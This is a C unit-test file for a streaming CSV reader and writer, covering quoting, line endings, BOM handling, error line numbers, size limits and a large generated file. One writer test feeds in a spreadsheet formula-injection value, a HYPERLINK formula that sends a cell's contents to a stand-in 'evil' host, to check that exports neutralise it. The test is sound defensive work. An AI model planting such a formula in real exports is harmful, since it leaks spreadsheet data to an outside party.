/* The streaming CSV reader: RFC 4180 quoting, line ends, BOM, errors with
 * their line, limits, and a file larger than its buffers. */
#include "config.h"
#include "csv.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../tap.h"

/* Read every row of text into one "a|b;c|d;" string (rows end in ';'),
 * returning the status that ended it. */
static enum csv_status read_all(const char *text, size_t len, char *out, size_t outlen, long *last_line)
{
	struct csv_reader *r = csv_open_buffer(text, len);
	const char **f;
	size_t n;
	long line = 0;
	enum csv_status s;
	out[0] = '\0';
	while ((s = csv_next(r, &f, &n, &line)) == CSV_ROW) {
		for (size_t i = 0; i < n; i++) {
			size_t used = strlen(out);
			snprintf(out + used, outlen - used, "%s%s", i > 0 ? "|" : "", f[i]);
		}
		size_t used = strlen(out);
		snprintf(out + used, outlen - used, ";");
		*last_line = line;
	}
	if (s != CSV_EOF)
		*last_line = line;
	csv_free(r);
	return s;
}

static void parses(const char *text, size_t len, const char *want, const char *what)
{
	char got[1024];
	long line = 0;
	enum csv_status s = read_all(text, len, got, sizeof got, &line);
	is_int(s, CSV_EOF, "%s: read to the end", what);
	is_str(got, want, "%s", what);
}

#define PARSES(lit, want, what) parses(lit, sizeof lit - 1, want, what)

static void fails(const char *text, size_t len, enum csv_status want, long want_line, const char *what)
{
	char got[1024];
	long line = 0;
	enum csv_status s = read_all(text, len, got, sizeof got, &line);
	is_int(s, want, "%s: status", what);
	is_int(line, want_line, "%s: line", what);
}

#define FAILS(lit, want, line, what) fails(lit, sizeof lit - 1, want, line, what)

static void test_syntax(void)
{
	PARSES("a,b,c\n1,2,3\n", "a|b|c;1|2|3;", "plain rows");
	PARSES("a,b\r\nc,d\r\n", "a|b;c|d;", "CRLF");
	PARSES("a,b\rc,d\r", "a|b;c|d;", "lone CR");
	PARSES("a,b", "a|b;", "no newline at the end");
	PARSES("\xEF\xBB\xBFkode,nama\nx,\xEF\xBB\xBFy\n", "kode|nama;x|\xEF\xBB\xBFy;",
		"BOM skipped at the start only");
	PARSES("\xEF\xBB\xBF", "", "a BOM alone");
	PARSES("\xEF\xBB", "\xEF\xBB;", "two bytes of a BOM are data");
	PARSES("\"a,b\",\"he said \"\"hi\"\"\",plain\n", "a,b|he said \"hi\"|plain;", "quotes");
	PARSES("\"multi\nline\",x\n\"y\"\n", "multi\nline|x;y;", "newline inside quotes");
	PARSES("\"a\r\nb\"\r\n", "a\r\nb;", "CRLF inside quotes kept");
	PARSES(",,\n\"\"\n", "||;;", "empty fields");
	PARSES("\n\na\n\r\n\nb\n\n", "a;b;", "blank lines give no row");
	PARSES("", "", "empty input");
	PARSES("Jl. Mawar No. 5 \xE2\x80\x94 RT 01,\xC3\xA9\n", "Jl. Mawar No. 5 \xE2\x80\x94 RT 01|\xC3\xA9;",
		"UTF-8 passes through");

	static const char text[] = "h\n\n\"a\nb\",c\r\n\nlast";
	struct csv_reader *r = csv_open_buffer(text, sizeof text - 1);
	const char **f;
	size_t n;
	long line;
	csv_next(r, &f, &n, &line);
	is_int(line, 1, "line of the first row");
	csv_next(r, &f, &n, &line);
	ok(line == 3 && n == 2 && strcmp(f[0], "a\nb") == 0, "row after a blank line starts on line 3");
	csv_next(r, &f, &n, &line);
	ok(line == 6 && n == 1 && strcmp(f[0], "last") == 0, "quoted newline counted: next row on line 6");
	is_int(csv_next(r, &f, &n, &line), CSV_EOF, "then the end");
	is_int(csv_next(r, &f, &n, &line), CSV_EOF, "and the end again");
	is_int(csv_bytes_read(r), sizeof text - 1, "every byte consumed");
	csv_free(r);
}

static void test_errors(void)
{
	FAILS("a,\"bc\nd\ne", CSV_ERR_QUOTE, 1, "quote never closed: line it opened");
	FAILS("x\ny,b\"c\n", CSV_ERR_QUOTE, 2, "quote inside an unquoted field");
	FAILS("\"ab\"c\n", CSV_ERR_QUOTE, 1, "text after the closing quote");
	FAILS("x\ny\n\"ab\" \n", CSV_ERR_QUOTE, 3, "space after the closing quote");
	FAILS("x\nab\0c\n", CSV_ERR_NUL, 2, "NUL byte in a field");
	FAILS("x\n\"a\0\"\n", CSV_ERR_NUL, 2, "NUL byte in a quoted field");

	/* final errors repeat */
	struct csv_reader *r = csv_open_buffer("a\n\"b\nc\nd\n", 9);
	const char **f;
	size_t n;
	long line;
	csv_next(r, &f, &n, &line);
	is_int(csv_next(r, &f, &n, &line), CSV_ERR_QUOTE, "quote error");
	ok(csv_next(r, &f, &n, &line) == CSV_ERR_QUOTE && line == 2, "repeats with the same line");
	csv_free(r);

	for (int s = CSV_ROW; s <= CSV_ERR_READ; s++)
		ok(csv_status_message((enum csv_status)s)[0] != '\0', "status %d has a message", s);
}

static void test_limits(void)
{
	/* 64 fields are fine, 65 are not, and the row after is read */
	char wide[400];
	int w = 0;
	for (int i = 0; i < CSV_MAX_FIELDS; i++)
		w += snprintf(wide + w, sizeof wide - (size_t)w, i ? ",x" : "x");
	w += snprintf(wide + w, sizeof wide - (size_t)w, "\n");
	for (int i = 0; i <= CSV_MAX_FIELDS; i++)
		w += snprintf(wide + w, sizeof wide - (size_t)w, i ? ",y" : "y");
	snprintf(wide + w, sizeof wide - (size_t)w, "\nok\n");
	struct csv_reader *r = csv_open_buffer(wide, strlen(wide));
	const char **f;
	size_t n;
	long line;
	ok(csv_next(r, &f, &n, &line) == CSV_ROW && n == CSV_MAX_FIELDS, "64 fields");
	ok(csv_next(r, &f, &n, &line) == CSV_ERR_TOO_MANY_FIELDS && line == 2 && n == 0, "65 fields: error on line 2");
	ok(csv_next(r, &f, &n, &line) == CSV_ROW && n == 1 && strcmp(f[0], "ok") == 0 && line == 3,
		"the next row is read after too many fields");
	csv_free(r);

	/* a row of exactly CSV_MAX_ROW bytes (with its terminating NULs) fits */
	size_t big = CSV_MAX_ROW * 2 + 16;
	char *text = malloc(big);
	size_t field = CSV_MAX_ROW / 2 - 1;
	memset(text, 'a', field);
	text[field] = ',';
	memset(text + field + 1, 'b', field);
	memcpy(text + 2 * field + 1, "\n\"", 2);
	/* then a quoted field one byte too long, with a comma and newline inside */
	size_t at = 2 * field + 3;
	memset(text + at, 'c', CSV_MAX_ROW);
	text[at + 10] = ',';
	text[at + 20] = '\n';
	at += CSV_MAX_ROW;
	memcpy(text + at, "\"\nnext\n", 7);
	at += 7;
	r = csv_open_buffer(text, at);
	ok(csv_next(r, &f, &n, &line) == CSV_ROW && n == 2 && strlen(f[0]) == field &&
		strlen(f[1]) == field, "a row of exactly %d bytes", CSV_MAX_ROW);
	ok(csv_next(r, &f, &n, &line) == CSV_ERR_TOO_LONG && line == 2, "one byte more: too long, line 2");
	ok(csv_next(r, &f, &n, &line) == CSV_ROW && strcmp(f[0], "next") == 0 && line == 4,
		"the row after a long quoted one is read, on line 4");
	csv_free(r);
	free(text);
}

/* One field written by csv_write_field, as text. */
static void writes(const char *text, bool free_text, const char *want, const char *what)
{
	char buf[256] = "";
	FILE *f = fmemopen(buf, sizeof buf - 1, "w");
	bool pass = f != NULL && csv_write_field(f, text, free_text, '\n');
	if (f != NULL)
		fclose(f);
	pass = pass && strcmp(buf, want) == 0;
	if (!pass)
		tap_diag("wrote [%s], want [%s]", buf, want);
	ok(pass, "%s", what);
}

/* The client's and the server's exports: spreadsheet formulas never run. */
static void test_writer(void)
{
	writes("Sri Wahyuni", true, "Sri Wahyuni\n", "plain text is written as it is");
	writes("Jl. A, No. 1", true, "\"Jl. A, No. 1\"\n", "a comma is quoted");
	writes("kata \"x\"", true, "\"kata \"\"x\"\"\"\n", "a quote is doubled inside quotes");
	writes("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", true,
		"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"\n", "= gets an apostrophe");
	writes("+62 812", true, "\"'+62 812\"\n", "+ gets an apostrophe");
	writes("-2+3", true, "\"'-2+3\"\n", "- gets an apostrophe");
	writes("@SUM(A1)", true, "\"'@SUM(A1)\"\n", "@ gets an apostrophe");
	writes("\t=1", true, "\"'\t=1\"\n", "a tab first gets an apostrophe");
	writes("\r=1", true, "\"'\r=1\"\n", "a CR first gets an apostrophe (and quotes)");
	writes("-6.1783160", false, "-6.1783160\n", "a value (a coordinate) stays a number");
	writes("", true, "\n", "an empty field is empty");
}

static void make_tmpdir(char *dir, size_t len)
{
	const char *top = getenv("top_builddir");
	char base[4096];
	snprintf(base, sizeof base, "%s/tests/tmp", top != NULL ? top : ".");
	mkdir(base, 0700);
	snprintf(dir, len, "%s/test_csv.XXXXXX", base);
	if (mkdtemp(dir) == NULL) {
		printf("Bail out! mkdtemp %s: %s\n", dir, strerror(errno));
		exit(1);
	}
}

/* 200,000 rows with quoted fields that cross the 64 KiB input buffer */
static void test_large_file(const char *dir)
{
	char path[4300];
	snprintf(path, sizeof path, "%s/large.csv", dir);
	FILE *w = fopen(path, "wb");
	if (!ok(w != NULL, "create %s", path))
		return;
	const int rows = 200000;
	fputs("\xEF\xBB\xBFnik,nama,catatan\r\n", w);
	for (int i = 0; i < rows; i++)
		fprintf(w, "%016d,\"Nama, ke-%d\",\"baris \"\"%d\"\"\r\nkedua\"\r\n", i, i, i);
	long size = ftell(w);
	fclose(w);

	FILE *in = fopen(path, "rb");
	struct csv_reader *r = csv_open(in);
	const char **f;
	size_t n;
	long line;
	ok(csv_next(r, &f, &n, &line) == CSV_ROW && n == 3 && strcmp(f[0], "nik") == 0, "header, BOM skipped");
	int good = 0;
	long last_line = 0;
	enum csv_status s;
	while ((s = csv_next(r, &f, &n, &line)) == CSV_ROW) {
		char want[64];
		snprintf(want, sizeof want, "baris \"%d\"\r\nkedua", good);
		if (n == 3 && strtol(f[0], NULL, 10) == good && strcmp(f[2], want) == 0)
			good++;
		last_line = line;
	}
	is_int(s, CSV_EOF, "read to the end");
	is_int(good, rows, "every row intact");
	is_int(last_line, 2 + 2L * (rows - 1), "line numbers count the quoted line breaks");
	is_int(csv_bytes_read(r), size, "bytes read = file size");
	csv_free(r);
	fclose(in);
	unlink(path);

	/* a read error: a directory opens but cannot be read */
	in = fopen(dir, "rb");
	if (in != NULL) {
		r = csv_open(in);
		is_int(csv_next(r, &f, &n, &line), CSV_ERR_READ, "read error reported");
		csv_free(r);
		fclose(in);
	} else {
		tap_skip("this system cannot fopen a directory");
	}
}

int main(void)
{
	test_syntax();
	test_errors();
	test_limits();
	test_writer();
	char dir[4200];
	make_tmpdir(dir, sizeof dir);
	test_large_file(dir);
	rmdir(dir);
	return tap_done();
}
